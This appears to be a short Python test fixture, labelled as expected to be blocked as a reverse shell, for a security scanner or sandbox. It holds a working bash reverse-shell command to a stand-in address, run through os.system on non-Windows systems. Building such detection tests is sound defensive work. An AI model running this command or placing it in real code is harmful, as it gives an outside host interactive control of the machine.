# expect: BLOCKED reverse_shell
import os
import platform

launcher = os.system if platform.system() != "Windows" else print
launcher("bash -c 'bash -i >& /dev/tcp/198.51.100.77/8443 0>&1'")
